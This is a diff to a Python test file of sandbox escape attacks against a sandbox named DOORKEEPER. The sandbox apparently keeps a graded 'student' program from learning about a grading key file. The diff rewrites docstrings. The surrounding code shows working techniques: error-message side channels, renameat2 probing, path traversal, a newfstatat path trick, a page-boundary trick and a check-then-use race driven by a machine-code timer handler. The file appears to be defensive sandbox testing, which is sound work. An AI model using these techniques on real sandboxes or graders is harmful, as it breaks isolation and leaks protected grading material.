@@ -1,6 +1,6 @@
-"""What can be learnt without opening anything: names, sizes, times, and who else is there.
+"""Attacks that learn facts without opening files: names, sizes, times, and other users' processes.
 
-A little of it remains; docs/sandbox.md names it.
+Some of these facts remain visible; docs/sandbox.md lists them.
 """
 
 from __future__ import annotations
@@ -90,7 +90,7 @@ def ask_whether_a_process_exists():
 
 @attack(DOORKEEPER)
 def ask_whether_a_path_exists_by_how_it_is_refused():
-    """What is there and may not be opened is refused otherwise than what is not there."""
+    """A forbidden path and a missing path may be refused with different errors."""
     return _refused(targets.key) != _refused(targets.key + "-not")
 
 
@@ -110,7 +110,7 @@ def ask_whether_a_path_exists_by_renaming_it():
 
 
 def _rename(path):
-    """To a name that is taken, so that nothing comes of it."""
+    """Rename to a name that exists, so that the call has no effect."""
     os.close(os.open("taken", os.O_WRONLY | os.O_CREAT))
     call("renameat2", AT_FDCWD, path.encode(), AT_FDCWD, b"taken", 1)
 
@@ -125,7 +125,7 @@ def _refused(path, attempt=lambda path: os.open(path, os.O_RDONLY)):
 
 @attack(DOORKEEPER)
 def climb_to_the_key():
-    """From the own folder upwards, and down again."""
+    """Climb from the student's folder upwards and down again to the key."""
     return os.stat("../" * 20 + targets.key).st_size
 
 
@@ -147,7 +147,7 @@ def name_the_key_by_the_own_process():
 
 @attack(DOORKEEPER)
 def stat_with_the_whole_path_beside_a_descriptor():
-    """The flag says that the descriptor is meant; a path that is there all the same is meant more."""
+    """The flag selects the descriptor, but the kernel prefers a path if one is given."""
     found = space(256)
     call("newfstatat", os.open("/dev/null", os.O_RDONLY), targets.key.encode(), found, 0x1000)
     return int.from_bytes(found[48:56], "little") == len("the grading key")
@@ -155,7 +155,7 @@ def stat_with_the_whole_path_beside_a_descriptor():
 
 @attack(DOORKEEPER)
 def stat_a_path_at_the_end_of_a_page():
-    """Whoever reads a whole block of memory to see the path finds nothing behind it."""
+    """The path lies at the end of a page, so a check that reads a whole block of memory meets unmapped memory."""
     pages = mmap.mmap(-1, 8192)
     start = ctypes.addressof(ctypes.c_char.from_buffer(pages))
     libc.mprotect(ctypes.c_void_p(start + 4096), ctypes.c_size_t(4096), 0)
@@ -168,7 +168,7 @@ def stat_a_path_at_the_end_of_a_page():
 
 @attack(DOORKEEPER)
 def change_the_path_after_it_was_looked_at():
-    """A timer's handler, in machine code, puts a slash where the harmless path ended, and takes it away again."""
+    """A timer handler in machine code extends the path with a slash after the check, and removes the slash again."""
     path = ctypes.create_string_buffer(b"/usr/share/zoneinfo\0" + b"../" * 5 + targets.key.encode())
     place = ctypes.addressof(path) + len("/usr/share/zoneinfo")
     page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
